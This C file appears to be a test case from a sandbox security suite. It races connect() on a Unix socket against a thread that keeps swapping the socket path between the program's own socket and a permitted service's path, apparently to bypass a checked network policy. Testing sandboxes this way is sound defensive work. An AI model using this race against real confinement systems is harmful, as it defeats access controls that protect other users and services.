// title: exchange the address of a connect while it is judged
// kind: network
#include "attack.h"

static volatile int stop;
static struct sockaddr_un address;
static char own[108];
static const char* foreign;

static void* swap(void* nothing) {
  while (!stop) {
    memcpy(address.sun_path, own, sizeof own);
    for (volatile int i = 0; i < 50; i++);
    strncpy(address.sun_path, foreign, sizeof own - 1);
    for (volatile int i = 0; i < 50; i++);
  }
  return nothing;
}

static void attack(void) {
  foreign = get("granted-service");
  snprintf(own, sizeof own, "/tmp/own-%d", getpid());
  address.sun_family = AF_UNIX;
  strcpy(address.sun_path, own);
  int server = socket(AF_UNIX, SOCK_STREAM, 0);
  if (bind(server, (struct sockaddr*)&address, sizeof address) != 0 || listen(server, 4096) != 0) return;
  pthread_t thread;
  pthread_create(&thread, NULL, swap, NULL);
  for (int i = 0; i < 3000; i++) {
    int client = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
    char text[256] = "";
    if (connect(client, (struct sockaddr*)&address, sizeof address) == 0) {
      struct timespec moment = {0, 2000000};
      if (i % 100 == 0) nanosleep(&moment, NULL);
      if (read(client, text, sizeof text - 1) > 0) printf("%s\n", text);
    }
    close(client);
  }
  stop = 1;
  pthread_join(thread, NULL);
  unlink(own);
}
